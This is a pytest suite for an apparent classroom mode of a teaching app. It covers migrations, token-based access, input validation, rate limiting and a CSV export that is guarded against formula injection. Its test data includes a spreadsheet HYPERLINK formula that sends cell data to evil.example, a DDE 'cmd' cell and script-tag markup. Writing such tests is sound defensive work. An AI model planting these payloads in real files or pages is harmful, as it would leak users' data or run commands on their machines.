"""Class mode's data on both databases (SQLite and PostgreSQL, one code path): migrations, who may
read and write what, every write validated, failed attempts limited, the teacher's figures
against counts made here."""

from __future__ import annotations

import csv
import io
import time

import pytest
import sqlalchemy as sa
from test_class_browser import postgres_or_skip

from classroom import ClassError, classes, db, limits, report
from mha.lesson import steps
from mha.models.catalog import DEFAULT_MODEL, MAX_CHARS

TEXT = "The mole on his arm was not a mole but a rare insect."
TAG = "one-query:0badf00d0badf00d"  # a question tag as ui.quiz.question_tag makes them
OPTIONS = ["none", "1 word", "2 or 3 words", "4 or more"]


@pytest.fixture(params=["sqlite", "postgresql"])
def url(request, tmp_path):
    made = f"sqlite:///{tmp_path / 'c.sqlite'}" if request.param == "sqlite" else postgres_or_skip()
    yield made
    db.dispose()


def spread(token: str, url: str, option: int, right: bool, tag: str = TAG, version: str = "following “mole” (2)"):
    qid = f"{tag}-spread"
    return classes.record_answer(token, qid, [f"q_{qid}-2"], option, OPTIONS, right, [OPTIONS[2]], version, url=url)


def test_the_migrations_make_the_schema_and_undo_it(url):
    eng = db.engine(url)
    with eng.connect() as conn:
        assert conn.execute(sa.text("SELECT version_num FROM alembic_version")).scalar_one() == "0004"
    assert "expected" in {c["name"] for c in sa.inspect(eng).get_columns("answers")}
    code, teacher = classes.start_class(DEFAULT_MODEL, TEXT, url=url)  # 0004 down keeps the class and its answers
    seat = classes.join(code, "Ada", url=url)
    spread(seat.token, url, 1, True)
    db.migrate(eng, "0003", down=True)
    assert "locked" not in {c["name"] for c in sa.inspect(eng).get_columns("classes")}
    with eng.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(db.answers)).scalar_one() == 1
    db.migrate(eng, "head")
    assert classes.teacher_class(teacher, url=url).locked is False
    db.migrate(eng, "0001", down=True)  # the first version's schema, then forward again
    assert "expected" not in {c["name"] for c in sa.inspect(eng).get_columns("answers")}
    assert {"classes", "seats", "answers", "failures"} <= set(sa.inspect(eng).get_table_names())
    db.migrate(eng, "base", down=True)
    assert "classes" not in sa.inspect(eng).get_table_names()
    db.migrate(eng, "head")
    assert classes.start_class(DEFAULT_MODEL, TEXT, url=url)


def test_stored_steps_and_answers_move_from_positions_to_keys(url):
    """A class and an answer stored when steps had numbers (schema 0002: step 3, "3-0badf00d-sub")
    read by key after the migration ("two-heads", "two-heads:0badf00d-sub"), and back on downgrade."""
    eng = db.engine(url)
    db.migrate(eng, "0002", down=True)
    with eng.begin() as conn:
        conn.execute(sa.text("DELETE FROM classes"))
        conn.execute(
            sa.text("INSERT INTO classes (id, code, teacher_hash, created, model, text, step, revision) "
                    "VALUES (1, 'OLDCLASS', 'h', :now, :model, 'Old.', 3, 1)"),
            {"now": time.time(), "model": DEFAULT_MODEL},
        )  # fmt: skip
        conn.execute(sa.text("INSERT INTO seats (id, class_id, token_hash, nickname, nickname_key, joined) "
                             "VALUES (1, 1, 't', 'Kim', 'kim', 0)"))  # fmt: skip
        conn.execute(
            sa.text("INSERT INTO answers (class_id, seat_id, qid, record, keys, value, label, options, "
                    "\"right\", at) VALUES (1, 1, '3-0badf00d-sub', '3-sub', 'q_3-0badf00d-sub-0-1-2', '1', "
                    "'Different', '[]', true, 0)"),
        )  # fmt: skip
    db.migrate(eng, "head")
    with eng.connect() as conn:
        assert conn.execute(sa.text("SELECT step FROM classes")).scalar_one() == "two-heads"
        row = conn.execute(sa.text("SELECT qid, record, keys FROM answers")).one()
    assert tuple(row) == ("two-heads:0badf00d-sub", "two-heads:sub", "q_two-heads:0badf00d-sub-0-1-2")
    assert row.record in steps.QUESTIONS and steps.STEPS[steps.number("two-heads") - 1].questions
    db.migrate(eng, "0002", down=True)
    with eng.connect() as conn:
        assert conn.execute(sa.text("SELECT step FROM classes")).scalar_one() == 3
        assert tuple(conn.execute(sa.text("SELECT qid, record FROM answers")).one()) == ("3-0badf00d-sub", "3-sub")
    db.migrate(eng, "head")


def test_a_class_end_to_end_and_what_each_token_reads(url):
    code, teacher = classes.start_class(DEFAULT_MODEL, TEXT, "one-query", url=url)
    assert len(code) == 8 and set(code) <= set(classes.CODE_ALPHABET) and len(teacher) >= 32
    other_code, other_teacher = classes.start_class(DEFAULT_MODEL, "Another class.", "stages", url=url)
    a = classes.join(f" {code[:4].lower()}-{code[4:]} ", "Ada", url=url)  # typed loosely
    b = classes.join(code, "", url=url)
    c = classes.join(other_code, "Ada", url=url)  # the same nickname in another class
    assert (a.nickname, b.nickname, c.nickname) == ("Ada", "Student 2", "Ada")
    assert a.token != b.token and len(a.token) >= 32 and a.pin == classes.Pin(DEFAULT_MODEL, TEXT, "one-query", 1)
    with pytest.raises(ClassError, match="already called"):
        classes.join(code, "ADA", url=url)
    assert spread(a.token, url, 2, True) and not spread(a.token, url, 0, False)  # the first answer stays
    assert spread(b.token, url, 0, False) and spread(c.token, url, 1, False)
    # a student reads their own answers only; the teacher reads their own class only
    assert [(x.nickname, x.label) for x in classes.answers_of(a.token, url=url)] == [("Ada", "2 or 3 words")]
    view = classes.teacher_class(teacher, url=url)
    assert view.code == code and view.nicknames == ("Ada", "Student 2")
    assert sorted((x.nickname, x.label, x.right) for x in view.answers) == [
        ("Ada", "2 or 3 words", True),
        ("Student 2", "none", False),
    ]
    pinned = classes.pin(teacher, DEFAULT_MODEL, "Dogs bark.", "two-heads", url=url)
    assert pinned == classes.Pin(DEFAULT_MODEL, "Dogs bark.", "two-heads", 2) == classes.seat_of(b.token, url=url).pin
    assert classes.seat_of(c.token, url=url).pin.step == "stages"  # the other class did not move
    # ending deletes the class's data, and only its
    classes.end_class(teacher, url=url)
    assert classes.seat_of(a.token, url=url) is None and classes.answers_of(a.token, url=url) == []
    with db.engine(url).connect() as conn:
        left = {
            t.name: conn.execute(sa.select(sa.func.count()).select_from(t)).scalar_one() for t in (db.seats, db.answers)
        }
    assert left == {"seats": 1, "answers": 1}  # class c's
    with pytest.raises(ClassError, match="opens no class"):
        classes.teacher_class(teacher, url=url)
    for forged in ("", other_teacher[:-1], a.token, code):  # only a class's own teacher token steers it
        with pytest.raises(ClassError, match="opens no class"):
            classes.pin(forged, DEFAULT_MODEL, "Hijacked.", "one-query", url=url)
        with pytest.raises(ClassError, match="opens no class"):
            classes.end_class(forged, url=url)
    with pytest.raises(ClassError, match="ended"):
        spread(a.token, url, 1, True)
    assert classes.teacher_class(other_teacher, url=url).answers[0].nickname == "Ada"


@pytest.mark.parametrize(
    "nickname,ok",
    [
        ("Zoë", True),
        ("O'Neil", True),
        ("Jean-Luc 2", True),
        ("李雷", True),
        ("  Ann   Lee ", True),
        ("<b>Bob</b>", False),
        ("**Bob**", False),
        ("=HYPERLINK(1)", False),
        ("-Bob", False),
        ("Bob 😀", False),
        ("[x](http://e.vil)", False),
        ("a" * 25, False),
        ("_", False),
    ],
)
def test_nicknames_are_checked(nickname, ok):
    if ok:
        assert classes.checked_nickname(nickname) == " ".join(nickname.split())
    else:
        with pytest.raises(ClassError):
            classes.checked_nickname(nickname)


@pytest.mark.parametrize(
    "qid,keys,value,options",
    [
        ("one-query:0badf00d0badf00d-nosuch", None, 1, OPTIONS),  # not a question of the lesson
        ("one-query:0badf00d-spread", None, 1, OPTIONS),  # the old 32-bit tag
        ("ninth:0badf00d0badf00d-spread", None, 1, OPTIONS),  # no step "ninth"
        ("one-query:XYZ-spread", None, 1, OPTIONS),
        ("one-query:0badf00d0badf00d-spread", ["q_other"], 1, OPTIONS),  # the setting is not the question's
        ("one-query:0badf00d0badf00d-spread", None, 4, OPTIONS),  # not one of the options
        ("one-query:0badf00d0badf00d-spread", None, -1, OPTIONS),
        ("one-query:0badf00d0badf00d-spread", None, True, OPTIONS),
        ("one-query:0badf00d0badf00d-spread", None, "1", OPTIONS),
        ("one-query:0badf00d0badf00d-spread", None, 0, ["only one"]),
        ("stages:0badf00d0badf00d-q", None, [-1, 64], None),
        ("stages:0badf00d0badf00d-q", None, [1, 2, 3, 4, 5], None),
        ("stages:0badf00d0badf00d-q", None, [2**53 + 1], None),
        ("stages:0badf00d0badf00d-q", None, [], None),
    ],
)
def test_an_invalid_answer_is_refused(qid, keys, value, options):
    with pytest.raises(ClassError):
        classes.checked_answer(qid, keys or [f"q_{qid}"], value, options)


def test_each_version_of_a_question_keeps_its_own_first_answer(tmp_path):
    """Step 1 on another token, step 3 on other heads: another version, its own first answer."""
    url = f"sqlite:///{tmp_path / 'v.sqlite'}"
    code, teacher = classes.start_class(DEFAULT_MODEL, TEXT, url=url)
    seat = classes.join(code, "Ada", url=url)
    for token, option in ((2, 2), (5, 1), (2, 0)):  # "mole", then "arm", then "mole" again
        qid = f"{TAG}-spread-{token}"
        classes.record_answer(seat.token, qid, [f"q_{TAG}-spread-{token}"], option, OPTIONS, option == 2, url=url)
    got = {a.qid: (a.label, a.latest) for a in classes.answers_of(seat.token, url=url)}
    assert got == {f"{TAG}-spread-2": ("2 or 3 words", "0"), f"{TAG}-spread-5": ("1 word", "1")}
    assert report.scores(classes.teacher_class(teacher, url=url))[0][1:] == (1, 1)  # the question counts once


def test_every_question_of_the_lesson_can_be_answered():
    for record in steps.QUESTIONS:
        key, name = record.split(":")
        qid = f"{key}:0badf00d0badf00d-{name}"
        assert classes.checked_answer(qid, [f"q_{qid}"], 1, OPTIONS)[0] == record


@pytest.mark.parametrize(
    "model,text,step",
    [("not-a-model", TEXT, 1), (DEFAULT_MODEL, "  ", 1), (DEFAULT_MODEL, "x" * (MAX_CHARS + 1), 1)]
    + [(DEFAULT_MODEL, TEXT, s) for s in (0, 2, len(steps.STEPS) + 1, True, "2", "recap2", None)],
)
def test_an_invalid_pin_is_refused(model, text, step):
    with pytest.raises(ClassError):
        classes.checked_pin(model, text, step)


def test_no_number_of_wrong_codes_refuses_a_right_one(url, monkeypatch):
    """Wrong codes from an address make its checks wait (the same for right and wrong ones); the
    right code is then taken, never refused. A teacher link is never counted."""
    waited = []
    monkeypatch.setattr(classes.time, "sleep", waited.append)
    code, teacher = classes.start_class(DEFAULT_MODEL, TEXT, url=url)
    with db.engine(url).begin() as conn:
        conn.execute(db.failures.insert(), [{"address": "203.0.113.7", "at": time.time()}] * 5 * limits.MAX_FAILURES)
    assert classes.join(code, "", "203.0.113.7", url=url).nickname == "Student 1"
    assert waited[-1] == limits.FLAGGED_WAIT
    with pytest.raises(classes.WrongCode):
        classes.join("ZZZZZZZZ", "", "203.0.113.7", url=url)
    assert waited[-1] == limits.FLAGGED_WAIT  # the same wait: it tells nothing about the code
    assert classes.join(code, "", "198.51.100.1", url=url).nickname == "Student 2"  # another address waits not
    assert waited[-1] == 0
    for n in range(2 * limits.MAX_FAILURES):  # (192 random bits: nothing to guess) nor counted
        with pytest.raises(ClassError, match="opens no class"):
            classes.teacher_class(f"forged{n}", "198.51.100.9", url=url)
    with db.engine(url).connect() as conn:
        counted = conn.execute(sa.select(sa.func.count()).where(db.failures.c.address == "198.51.100.9"))
        assert counted.scalar_one() == 0
    with db.engine(url).begin() as conn:  # ten minutes later: no wait
        conn.execute(db.failures.update().values(at=db.failures.c.at - limits.WINDOW))
    classes.join(code, "", "203.0.113.7", url=url)
    assert waited[-1] == 0


def test_a_session_that_types_wrong_codes_waits_longer_each_time():
    waits = [limits.session_wait(n) for n in range(10)]
    assert waits[: limits.FREE_TRIES] == [0.0] * limits.FREE_TRIES
    assert waits[limits.FREE_TRIES : limits.FREE_TRIES + 4] == [1.0, 2.0, 4.0, 8.0]
    assert max(waits) == limits.MAX_WAIT and waits == sorted(waits)
    # the arithmetic of the module's docstring: 100 guesses a second for 24 h against 100 classes
    assert 100 * 86_400 * 100 / 32**8 == pytest.approx(7.9e-4, rel=0.01)


def test_seats_one_per_browser_a_cap_and_the_teacher_removes_one(url, monkeypatch):
    monkeypatch.setenv("MHA_CLASS_SEATS", "3")
    code, teacher = classes.start_class(DEFAULT_MODEL, TEXT, url=url)
    carol = classes.join(code, "Carol", url=url)
    again = classes.join(code, "", url=url, kept=carol.token)  # the browser keeps its seat
    assert (again.nickname, again.token) == ("Carol", carol.token)
    assert classes.join(code, "CAROL", url=url, kept=carol.token).token == carol.token  # her name, as it looks
    dan = classes.join(code, "Dan", url=url, kept=carol.token)  # another name on her browser: someone else
    assert dan.nickname == "Dan" and dan.token != carol.token
    assert classes.seat_of(carol.token, url=url).nickname == "Carol"
    classes.join(code, "", url=url)
    with pytest.raises(ClassError, match="full"):
        classes.join(code, "Eve", url=url)
    assert classes.teacher_class(teacher, url=url).nicknames == ("Carol", "Dan", "Student 3")
    spread(carol.token, url, 1, False)
    assert classes.remove_seat(teacher, "Carol", url=url) and not classes.remove_seat(teacher, "Carol", url=url)
    view = classes.teacher_class(teacher, url=url)
    assert view.nicknames == ("Dan", "Student 3") and view.answers == ()
    assert classes.seat_of(carol.token, url=url) is None
    classes.lock(teacher, True, url=url)  # locked: no new seat, but a browser with one finds it
    with pytest.raises(ClassError, match="locked"):
        classes.join(code, "Eve", url=url)
    assert classes.join(code, "", url=url, kept=dan.token).nickname == "Dan"
    assert classes.teacher_class(teacher, url=url).locked
    classes.lock(teacher, False, url=url)
    assert classes.join(code, "Eve", url=url).nickname == "Eve"  # a seat is free again
    with pytest.raises(ClassError):
        classes.remove_seat("forged", "Dan", url=url)


@pytest.mark.parametrize(
    "taken,typed",
    [
        ("Alice", "\u0410lice"),  # Cyrillic capital А
        ("Alice", "Alic\u0435"),  # Cyrillic small е
        ("Sam", "SAM"),
        ("Saml", "Sam1"),
        ("Ola", "\u039fla"),  # Greek capital Omicron
        ("Bob", "\u0412ob"),  # Cyrillic capital Ve: its lower case looks like no Latin letter
        ("Hannah", "\u041d\u0430nn\u0430h"),
        ("Tom", "\u0422\u043em"),
        ("Kim", "\u041aim"),
        ("Max", "\u041c\u0430x"),
        ("Bob", "B0b"),
        ("Oscar", "0scar"),
        ("Alice", "\uff21\uff4c\uff49\uff43\uff45"),  # fullwidth
    ],
)
def test_a_nickname_that_looks_taken_is_refused(url, taken, typed):
    code, _ = classes.start_class(DEFAULT_MODEL, TEXT, url=url)
    classes.join(code, taken, url=url)
    with pytest.raises(ClassError, match="already called"):
        classes.join(code, typed, url=url)


def test_an_over_long_nickname_is_refused_before_it_is_normalised(monkeypatch):
    normalised = []
    monkeypatch.setattr(classes.unicodedata, "normalize", lambda form, s: normalised.append(len(s)) or s)
    with pytest.raises(ClassError, match="at most"):
        classes.join("ABCDEFGH", "x" * 1_000_000)
    assert normalised == []


def test_a_class_expires_with_its_data(url):
    code, teacher = classes.start_class(DEFAULT_MODEL, TEXT, url=url)
    seat = classes.join(code, "Ada", url=url)
    with db.engine(url).begin() as conn:
        conn.execute(db.classes.update().values(created=time.time() - classes.EXPIRES - 1))
    assert classes.seat_of(seat.token, url=url) is None
    with pytest.raises(ClassError):
        classes.join(code, "Bob", url=url)
    classes.start_class(DEFAULT_MODEL, TEXT, url=url)  # purges the old one
    with db.engine(url).connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(db.seats)).scalar_one() == 0


def test_the_teachers_figures_count_first_answers(tmp_path):
    url = f"sqlite:///{tmp_path / 'r.sqlite'}"
    code, teacher = classes.start_class(DEFAULT_MODEL, TEXT, url=url)
    picks = [2, 2, 0, 3, 2, 1, 0]  # first answers; option 2 is right
    seats = [classes.join(code, f"Kid {n}", url=url) for n in range(len(picks))]
    for seat, pick in zip(seats, picks):
        spread(seat.token, url, pick, pick == 2)
        spread(seat.token, url, 2, True)  # a second answer never counts
    spread(seats[0].token, url, 1, False, tag="one-query:0000beef0000beef")  # another sentence: not this histogram
    shape = "stages:0badf00d0badf00d-q"
    classes.record_answer(seats[1].token, shape, [f"q_{shape}_0"], [6], None, False, ["5"], url=url)
    classes.record_answer(seats[2].token, shape, [f"q_{shape}_0"], [7], None, False, ["5"], url=url)
    view = classes.teacher_class(teacher, url=url)
    (h,) = report.histograms(view, TAG)
    assert h.labels == tuple(OPTIONS) and h.counts == tuple(picks.count(i) for i in range(4)) and h.answered == 7
    assert h.right == (False, False, True, False) and h.variant == "following “mole” (2)"
    # a student who follows another token answers another version of the question: its own histogram
    late = classes.join(code, "Late", url=url)
    spread(late.token, url, 1, True, version="following “arm” (5)")
    main, other = report.histograms(classes.teacher_class(teacher, url=url), TAG)
    assert main.counts == h.counts and other.counts == (0, 1, 0, 0) and other.variant == "following “arm” (5)"
    # a typed answer no one gave right is still shown, with no student, and marked right
    (typed,) = report.histograms(view, "stages:0badf00d0badf00d")
    assert typed.labels == ("6", "7", "5") and typed.counts == (1, 1, 0) and typed.right == (False, False, True)
    # the answer shown now is kept apart from the first: it comes back after a reload
    kid0 = classes.answers_of(seats[0].token, url=url)
    assert [(a.label, a.latest) for a in kid0 if a.qid == f"{TAG}-spread"] == [("2 or 3 words", "2")]
    rows = {asked: (r, n) for asked, r, n in report.scores(view)}
    assert rows[steps.QUESTIONS["one-query:spread"]] == (3, 7)  # Kid 0's first answer was on this sentence
    assert rows[steps.QUESTIONS["stages:q"]] == (0, 2) and rows[steps.QUESTIONS["two-heads:sub"]] == (0, 0)
    table = list(csv.DictReader(io.StringIO(report.answers_csv(view))))
    assert len(table) == 10 and {r["nickname"] for r in table} == {f"Kid {n}" for n in range(7)}
    kid3 = [r for r in table if r["nickname"] == "Kid 3" and r["step"] == "1"]
    assert [(r["first answer"], r["answer now"], r["right"]) for r in kid3] == [("4 or more", "2 or 3 words", "no")]


def test_the_class_page_answers_bad_input_with_a_message(tmp_path, monkeypatch, bert):
    """Forged links and form values on the Class page: a message each, never a traceback."""
    from streamlit.testing.v1 import AppTest

    from livetest import ROOT

    monkeypatch.setenv("MHA_CLASS_DB", f"sqlite:///{tmp_path / 'page.sqlite'}")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.query_params.update({"teacher": "<script>alert(1)</script>", "pin": "-1"})
    at.switch_page("app_pages/classroom.py").run()
    assert not at.exception and "Teacher links are not used any more" in at.warning[0].value
    assert not at.get("plotly_chart") and "teacher" not in at.query_params
    at.text_input(key="class_key").input("<b>forged key</b>")  # a forged teacher key: a message, no class
    at.button(key="FormSubmitter:class_open-Open the teacher view").click().run()
    assert not at.exception and "This teacher key opens no class" in at.error[0].value
    assert "_teacher" not in at.session_state
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120).run()
    at.switch_page("app_pages/classroom.py").run()
    for code, nickname, said in [
        ("NOPE1234", "Ada", "No class has that code"),
        ("", "", "No class has that code"),
        ("x" * 10_000, "Ada", "No class has that code"),
        ("NOPE1234", "<b onclick=x>Ada</b>", "A nickname uses letters"),
    ]:
        at.text_input(key="class_code").input(code)
        at.text_input(key="class_nickname").input(nickname)
        at.button(key="FormSubmitter:class_join-Join").click().run()
        assert not at.exception and said in at.error[0].value, (code, nickname, [e.value for e in at.error])
    assert "_seat" not in at.session_state


def test_the_pinned_histogram_is_the_servers_question_not_the_first_answerers(tmp_path):
    """Answers stored with another question's options (asked on another input that shares the tag,
    or forged) neither set the pinned histogram's options and right answer nor count in it."""
    url = f"sqlite:///{tmp_path / 'p.sqlite'}"
    code, teacher = classes.start_class(DEFAULT_MODEL, TEXT, url=url)
    other = ["yes", "no"]
    seats = [classes.join(code, f"Kid {n}", url=url) for n in range(4)]
    qid = f"{TAG}-spread-2"
    # the first answer: another question's options, and it calls its own pick right
    classes.record_answer(seats[0].token, qid, [f"q_{qid}"], 0, other, True, ["yes"], url=url)
    for seat, option in zip(seats[1:], (2, 2, 0)):
        classes.record_answer(seat.token, qid, [f"q_{qid}"], option, OPTIONS, option == 2, [OPTIONS[2]], url=url)
    view = classes.teacher_class(teacher, url=url)
    asked = []

    def truth(record, variant):
        asked.append((record, variant))
        if variant != "2":
            raise ValueError("no such token")
        return tuple(OPTIONS), (OPTIONS[2],)

    (h,) = report.histograms(view, TAG, truth)
    assert asked == [("one-query:spread", "2")]
    assert h.labels == tuple(OPTIONS) and h.counts == (1, 0, 2, 0) and h.right == (False, False, True, False)
    assert h.answered == 3
    (old,) = report.histograms(view, TAG)  # without the server's question: the first answer's options
    assert old.labels == ("yes", "no")
    classes.record_answer(seats[1].token, f"{TAG}-spread-99", [f"q_{TAG}-spread-99"], 0, OPTIONS, False, url=url)
    assert len(report.histograms(classes.teacher_class(teacher, url=url), TAG, truth)) == 1  # no token 99 here


def test_no_cell_a_student_typed_reaches_the_csv_as_a_formula(tmp_path):
    """A sentence, an option and a version that start with = + - @ tab or CR (a student's client sends
    all three) reach the teacher's CSV as text: a leading apostrophe, read back by the csv module."""
    url = f"sqlite:///{tmp_path / 'f.sqlite'}"
    code, teacher = classes.start_class(DEFAULT_MODEL, TEXT, url=url)
    seat = classes.join(code, "Eve", url=url)
    evil = '=HYPERLINK("http://evil.example/?q="&A2,"click")'
    options = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx"]
    qid = f"{TAG}-spread"
    classes.record_answer(seat.token, qid, [f"q_{qid}"], 0, options, False, [options[1]], "\rversion", evil, url=url)
    (row,) = list(csv.reader(io.StringIO(report.answers_csv(classes.teacher_class(teacher, url=url)))))[1:]
    assert not [c for c in row if c.startswith(report.FORMULA_START)], row
    assert "'" + evil in row and "'" + options[0] in row and "'\rversion" in row


@pytest.mark.parametrize("cell", [" =1+1", "\u00a0=1+1", "\uff1d1+1", "\u200f=1+1", "\ufeff@SUM(A1)", "  -2+3"])
def test_a_formula_behind_spaces_or_invisible_characters_is_neutralised(cell):
    assert report.safe_cell(cell) == "'" + cell
    assert report.safe_cell("Mole 2") == "Mole 2" and report.safe_cell(3) == 3


def test_question_tags_do_not_collide_on_ambiguous_inputs():
    """The old tag, crc32 of "model|text|text_b", gave one tag to no second sentence and the second
    sentence "None", and to a "|" moved between fields; the tag is now 64 bits of SHA-256 over JSON."""
    import zlib

    from ui.quiz import question_tag
    from ui.state import Inputs

    pairs = [
        (Inputs(DEFAULT_MODEL, TEXT, None), Inputs(DEFAULT_MODEL, TEXT, "None")),
        (Inputs(DEFAULT_MODEL, "a|b", "c"), Inputs(DEFAULT_MODEL, "a", "b|c")),
    ]
    for one, other in pairs:
        old = [zlib.crc32(f"{i.model}|{i.text}|{i.text_b}".encode()) for i in (one, other)]
        assert old[0] == old[1]  # the collision the old encoding had
        tags = [question_tag(i, "one-query") for i in (one, other)]
        assert tags[0] != tags[1] and all(classes.QID.fullmatch(f"{t}-spread") for t in tags)
